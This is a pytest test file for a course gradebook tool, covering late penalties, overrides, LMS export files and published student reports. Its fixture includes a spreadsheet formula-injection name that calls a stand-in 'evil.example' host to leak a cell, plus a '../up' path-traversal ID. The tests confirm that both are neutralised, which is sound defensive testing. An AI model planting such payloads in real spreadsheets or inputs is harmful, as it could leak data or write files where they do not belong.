"""Final grades out of the gradebook: overrides in force, the late penalty, the files Moodle and
Canvas import (their exact column names, parsed back with the csv module), formula injection in
a name neutralised, and `dlgrade publish` showing a person's decision in the student's report.
A course of 3 students x 2 assignments, on SQLite and on PostgreSQL (tests/postgres.py)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from postgres import postgres_server  # noqa: F401  (the session's server)

from grader.cli.main import main
from grader.gradebook import Gradebook, GradebookError, RosterRow
from grader.gradebook.grades import LatePolicy, class_grades, days_late, final_grade
from grader.gradebook.models import Submission
from grader.reporters import json_report
from grader.results import CheckResult, PartResult, Result, Status

DUE = datetime(2026, 12, 1, 23, 59, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NB = {"a.ipynb": b"{}"}
POLICY = LatePolicy(0.1, 0.5)


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def db_url(request, tmp_path_factory) -> str:
    """The graded course (`course`), once per backend: the tests only read it, or set the
    late policy it already has."""
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path_factory.mktemp('export') / 'course.db'}"
    else:
        url = request.getfixturevalue("postgres_server").new_database()
    course(url)
    return url


def check(name: str, points: float, of: float, status: Status | None = None) -> CheckResult:
    status = status or (Status.PASS if points == of else Status.FAIL)
    return CheckResult(name, status, points, of, message=f"{name}: {points}/{of}")


def a1(student: str, c1: float, c2: float, quiz: Status) -> Result:
    """10 points: c1 (4) and c2 (3) in one part, a free-text answer (3) in another."""
    quiz_points = 3.0 if quiz == Status.PASS else 0.0
    return Result(student, "a1", parts=[
        PartResult.from_checks("p1", "Shapes", [check("c1", c1, 4), check("c2", c2, 3)]),
        PartResult.from_checks("quiz", "Softmax", [check("why softmax", quiz_points, 3, quiz)]),
    ])  # fmt: skip


def a2(student: str, points: float) -> Result:
    return Result(student, "a2", parts=[PartResult.from_checks("p", "Loss", [check("loss", points, 5)])])


def course(url: str) -> None:
    """s1 on time with a decided needs-review answer; s2 (a formula for a name) two days late
    for a1 and nothing for a2; s3 with a decision taken back, late for a2 by the LMS's flag."""
    with Gradebook(url) as book:
        book.import_roster([
            RosterRow("2024001", "山田 太郎", "yamada@example.ac.jp"),
            RosterRow("2024002", EVIL, "evil@example.ac.jp"),
            RosterRow("2024003", "Sato Hanako", "sato@example.ac.jp"),
        ])  # fmt: skip
        book.add_assignment("a1", due_at=DUE)
        book.add_assignment("a2", due_at=DUE, title="Day 4: loss functions")
        s1 = book.record_submission("2024001", "a1", NB, submitted_at=DUE - timedelta(hours=1))
        book.record_run(a1("2024001", 4, 3, Status.NEEDS_REVIEW), s1)
        book.override("2024001", "a1", "quiz", "why softmax", 2.5, comment="<b>good</b>, but say why", author="sato")
        book.record_run(a1("2024001", 4, 3, Status.NEEDS_REVIEW), s1)  # a regrade: the decision holds
        book.record_run(a2("2024001", 5), book.record_submission("2024001", "a2", NB, submitted_at=DUE))
        s2 = book.record_submission("2024002", "a1", NB, submitted_at=DUE + timedelta(hours=26))
        book.record_run(a1("2024002", 4, 3, Status.NEEDS_REVIEW), s2)
        book.override("2024002", "a1", "p1", "c1", 4.0, comment="checked:\nright", author="sato")
        s3 = book.record_submission("2024003", "a1", NB, submitted_at=DUE)
        book.record_run(a1("2024003", 4, 0, Status.PASS), s3)
        book.override("2024003", "a1", "p1", "c2", 1.0, comment="partly right", author="sato")
        book.override("2024003", "a1", "p1", "c2", None, comment="", author="sato")  # back to the grader's
        late = book.record_submission("2024003", "a2", NB, late=True)  # Canvas's marker, no time
        book.record_run(a2("2024003", 2), late)
        for name in ("a1", "a2"):
            book.set_late_policy(name, POLICY.to_json())


def read(path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel shows the Japanese names
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def export(url, tmp_path, *args) -> list[list[str]]:
    out = tmp_path / "out.csv"
    assert main(["export", *args, "--db", url, "--out", str(out), "--lang", "en"]) == 0
    return read(out)


# --- the late policy, without a database -------------------------------------------------------


def test_a_late_policy_reads_as_teachers_write_it_and_refuses_the_rest():
    assert LatePolicy.parse("10%/day", "50%") == LatePolicy(0.1, 0.5)
    assert LatePolicy.parse("0.25") == LatePolicy(0.25, 1.0)
    assert LatePolicy.parse("5 % / 日").per_day == 0.05
    for bad in ("-10%", "150%", "ten", "10%/week", ""):
        with pytest.raises(GradebookError):
            LatePolicy.parse(bad)
    policy = LatePolicy(0.1, 0.5)
    assert [policy.fraction(d) for d in (0, 1, 2, 7)] == [0, 0.1, 0.2, 0.5]
    assert LatePolicy.from_json(policy.to_json()) == policy and LatePolicy.from_json(None) is None


def test_days_late_count_every_day_started_and_respect_the_late_flag():
    def sub(when, late):
        return Submission(submitted_at=when, late=late)

    assert days_late(sub(DUE + timedelta(minutes=1), True), DUE) == 1
    assert days_late(sub(DUE + timedelta(hours=24), True), DUE) == 1
    assert days_late(sub(DUE + timedelta(hours=24, seconds=1), True), DUE) == 2
    assert days_late(sub(None, True), DUE) == 1  # an LMS's "late" marker with no time
    assert days_late(sub(DUE - timedelta(hours=1), True), DUE) == 1  # the LMS knows the student's own due date
    assert days_late(sub(DUE + timedelta(days=2), True), None) == 1
    assert days_late(sub(DUE + timedelta(days=3), False), DUE) == 0  # the LMS granted an extension


# --- final grades and the LMS files, on both databases -------------------------------------------


def test_final_grades_apply_overrides_in_force_and_the_late_penalty(db_url, tmp_path):
    x = str(tmp_path / "x.csv")
    assert (
        main(["export", "--lms", "csv", "--db", db_url, "--out", x, "--assignment", "a2", "--late-penalty", "0"]) == 0
    )
    cli = ["export", "--lms", "csv", "--db", db_url, "--out", x]
    assert main([*cli, "--assignment", "a1", "--late-cap", "30%"]) == 0  # the penalty a day is kept
    assert main([*cli, "--assignment", "typo", "--late-penalty", "5%"]) == 2  # no assignment made from a typo
    with Gradebook(db_url) as book:
        assert [a.late_policy for a in book.assignments()] == [{"per_day": 0.1, "cap": 0.3}, None]
    assert main([*cli, "--late-penalty", "10%/day", "--late-cap", "50%"]) == 0
    with Gradebook(db_url) as book:
        grades = class_grades(book)
        s1 = final_grade(book, "2024001", "a1")
        for name, by in grades.items():  # a class's grades, four queries, are each student's
            for student, grade in by.items():
                one = final_grade(book, student, name)
                assert (one and (one.run_id, one.final, one.comments())) == (
                    grade and (grade.run_id, grade.final, grade.comments())
                )
        assert final_grade(book, "2024002", "a2") is None
        with pytest.raises(GradebookError):
            class_grades(book, ["nope"])
    assert (s1.points, s1.final, s1.needs_review, s1.penalty) == (9.5, 9.5, 0, 0)
    assert s1.comments() == [("quiz", "why softmax", "<b>good</b>, but say why")]
    s2 = grades["a1"]["2024002"]
    assert (s2.points, s2.days_late, s2.penalty, s2.deduction, s2.final, s2.needs_review) == (7, 2, 0.2, 1.4, 5.6, 1)
    s3 = grades["a1"]["2024003"]
    assert (s3.points, s3.final, s3.comments()) == (7, 7, [])  # the decision taken back: the grader's 4 + 0 + 3
    assert grades["a2"]["2024003"].final == 1.8  # 2 points, one day late: -10 %


def test_csv_export_per_assignment_and_total(db_url, tmp_path):
    rows = export(db_url, tmp_path, "--lms", "csv")
    assert rows[0] == ["student_id", "name", "email", "a1", "a1 late deduction", "a2", "a2 late deduction",
                       "total", "max_total", "percent", "needs_review"]  # fmt: skip
    by = {r[0]: r for r in rows[1:]}
    assert by["2024001"][1:] == ["山田 太郎", "yamada@example.ac.jp", "9.5", "0", "5", "0", "14.5", "15", "96.7", "0"]
    assert by["2024002"][1] == "'" + EVIL  # shown as text, never run
    assert by["2024002"][3:] == ["5.6", "1.4", "", "", "5.6", "15", "37.3", "1"]
    assert by["2024003"][3:] == ["7", "0", "1.8", "0.2", "8.8", "15", "58.7", "0"]
    only = export(db_url, tmp_path, "--lms", "csv", "--assignment", "a2")
    assert only[0][3:5] == ["a2", "a2 late deduction"] and len(only[0]) == 9


def test_moodle_gradebook_import_file(db_url, tmp_path):
    rows = export(db_url, tmp_path, "--lms", "moodle")
    title = "Day 4: loss functions"
    assert rows[0] == [
        "ID number",
        "Email address",
        "Full name",
        "a1",
        "a1 (Feedback)",
        title,
        f"{title} (Feedback)",
        "Total",
    ]
    by = {r[0]: r for r in rows[1:]}
    assert by["2024001"][3:] == ["9.5", "why softmax: &lt;b&gt;good&lt;/b&gt;, but say why", "5", "", "14.5"]
    assert by["2024002"][2] == "'" + EVIL
    assert by["2024002"][3:] == ["5.6", "late by 2 day(s): -20% (1.4 points)<br>c1: checked: right", "-", "", "5.6"]
    assert by["2024003"][5:] == ["1.8", "late by 1 day(s): -10% (0.2 points)", "8.8"]


def test_moodle_grading_worksheet_is_filled_in_as_downloaded(db_url, tmp_path, capsys):
    header = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum grade", "Grade can be changed",
              "Last modified (submission)", "Online text", "Last modified (grade)", "Feedback comments"]  # fmt: skip
    worksheet = tmp_path / "worksheet.csv"
    lines = [header,
             ["Participant 101", "山田 太郎", "YAMADA@example.ac.jp", "Submitted for grading", "", "100.00", "Yes",
              "Tuesday, 1 December 2026, 11:58 PM", "=1+1", "-", ""],
             ["Participant 102", "x", "evil@example.ac.jp", "Submitted for grading", "", "100.00", "Yes", "", "", "-", ""],
             ["Participant 103", "Someone Else", "else@example.ac.jp", "No submission", "", "100.00", "Yes", "", "", "-", ""]]  # fmt: skip
    with worksheet.open("w", newline="", encoding="utf-8-sig") as f:
        csv.writer(f).writerows(lines)
    rows = export(db_url, tmp_path, "--lms", "moodle", "--assignment", "a1", "--worksheet", str(worksheet))
    with worksheet.open("w", newline="", encoding="cp932") as f:  # as Japanese Excel saves it again
        csv.writer(f, delimiter="\t").writerows(lines)
    assert export(db_url, tmp_path, "--lms", "moodle", "--assignment", "a1", "--worksheet", str(worksheet)) == rows
    assert rows[0] == header
    by = {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    assert by["Participant 101"]["Grade"] == "95"  # 9.5 of 10 on Moodle's 100
    assert by["Participant 101"]["Feedback comments"] == "why softmax: &lt;b&gt;good&lt;/b&gt;, but say why"
    assert by["Participant 101"]["Online text"] == "'=1+1"  # a cell of the download is escaped too
    assert by["Participant 101"]["Last modified (grade)"] == "-"
    assert by["Participant 102"]["Grade"] == "56"
    assert by["Participant 103"]["Grade"] == ""  # nobody of the gradebook: left as it was
    err = capsys.readouterr().err
    assert "left as they were: Participant 103" in err and "no row in the worksheet: 2024003" in err
    with pytest.raises(SystemExit):
        main(["export", "--lms", "moodle", "--worksheet", str(worksheet), "--db", db_url, "--assignment"])
    assert main(["export", "--lms", "moodle", "--worksheet", str(worksheet), "--db", db_url,
                 "--out", str(tmp_path / "y.csv")]) == 2  # fmt: skip
    worksheet.write_text("Full name,Grade\nx,1\n", encoding="utf-8")
    assert main(["export", "--lms", "moodle", "--assignment", "a1", "--worksheet", str(worksheet), "--db", db_url,
                 "--out", str(tmp_path / "y.csv")]) == 2  # fmt: skip


def test_canvas_gradebook_import_file(db_url, tmp_path):
    rows = export(db_url, tmp_path, "--lms", "canvas")
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "a1", "Day 4: loss functions",
                       "Final Points"]  # fmt: skip
    assert rows[1] == ["    Points Possible", "", "", "", "", "10", "5", "15"]
    by = {r[2]: r for r in rows[2:]}
    assert by["2024001"] == ["山田 太郎", "", "2024001", "yamada@example.ac.jp", "", "9.5", "5", "14.5"]
    assert by["2024002"] == ["'" + EVIL, "", "2024002", "evil@example.ac.jp", "", "5.6", "", "5.6"]
    assert by["2024003"][5:] == ["7", "1.8", "8.8"]


def test_publish_shows_the_decision_beside_the_verdict_in_both_languages(db_url, tmp_path):
    out = tmp_path / "published"
    assert main(["publish", "a1", "--db", db_url, "--out", str(out), "--lang", "en"]) == 0
    page = (out / "2024001" / "report.html").read_text(encoding="utf-8")
    assert 'id="review"' in page and "9.5 / 10" in page and "(the grader gave 7)" in page
    assert "Instructor: 2.5 / 3" in page and "Comment: &lt;b&gt;good&lt;/b&gt;, but say why" in page
    assert "<b>good</b>" not in page  # a comment is text, never markup
    late = (out / "2024002" / "report.html").read_text(encoding="utf-8")
    assert "Late by 2 day(s): -20% (1.4 points deducted)" in late and "5.6 / 10" in late
    assert "Instructor: 4 / 4" in late and "checked:\nright" in late
    plain = (out / "2024003" / "report.html").read_text(encoding="utf-8")
    assert "the grader&#39;s points stand" in plain and "partly right" not in plain
    assert main(["publish", "a1", "--db", db_url, "--out", str(out), "--lang", "ja"]) == 0
    page = (out / "2024001" / "report.html").read_text(encoding="utf-8")
    assert "教員の採点: 2.5 / 3" in page and "教員による確認後の得点" in page
    assert main(["publish", "nope", "--db", db_url, "--out", str(out)]) == 2


@pytest.fixture(params=["sqlite", "postgresql"])
def fresh_url(request, tmp_path) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'fresh.db'}"
    return request.getfixturevalue("postgres_server").new_database()


def test_publish_never_writes_outside_its_folder_nor_a_report_it_cannot_make(fresh_url, tmp_path):
    with Gradebook(fresh_url) as book:
        book.import_roster(
            [RosterRow("../up", "Up", None), RosterRow("gone", "Gone", None), RosterRow("ok", "Ok", None)]
        )
        for student in ("../up", "gone", "ok"):
            sub = book.record_submission(student, "a2", NB)
            book.record_run(a2(student, 5), sub, keep_result=student != "gone", result_path=str(tmp_path / "nowhere"))
    out = tmp_path / "deep" / "published"
    assert main(["publish", "a2", "--db", fresh_url, "--out", str(out)]) == 2
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("report.html")) == [
        "deep/published/ok/report.html"
    ]
    (out / "ok" / "report.html").unlink()
    (out / "ok" / "report.html").mkdir()  # a folder in the way: said, not a traceback
    assert main(["publish", "a2", "--db", fresh_url, "--out", str(out)]) == 2
    assert main(["export", "--lms", "csv", "--db", fresh_url, "--out", str(out)]) == 2


def test_publish_reads_a_result_kept_only_on_disk_with_its_plots(fresh_url, tmp_path):
    graded = tmp_path / "graded" / "2024001"
    result = a2("2024001", 4)
    result.plots = [{"notebook": "a", "cell": "plot", "path": "a-1.png"}]
    json_report.write_submission(result, graded, "en")
    (graded / "plots").mkdir()
    (graded / "plots" / "a-1.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    with Gradebook(fresh_url) as book:
        book.import_roster([RosterRow("2024001", "A", None)])
        sub = book.record_submission("2024001", "a2", NB)
        book.record_run(result, sub, keep_result=False, result_path=str(graded / "result.json"))  # as grade --db does
        book.override("2024001", "a2", "p", "loss", 5.0, comment="fine", author="t")
    out = tmp_path / "published"
    assert main(["publish", "a2", "--db", fresh_url, "--out", str(out)]) == 0
    page = (out / "2024001" / "report.html").read_text(encoding="utf-8")
    assert "Instructor: 5 / 5" in page and "data:image/png;base64," in page
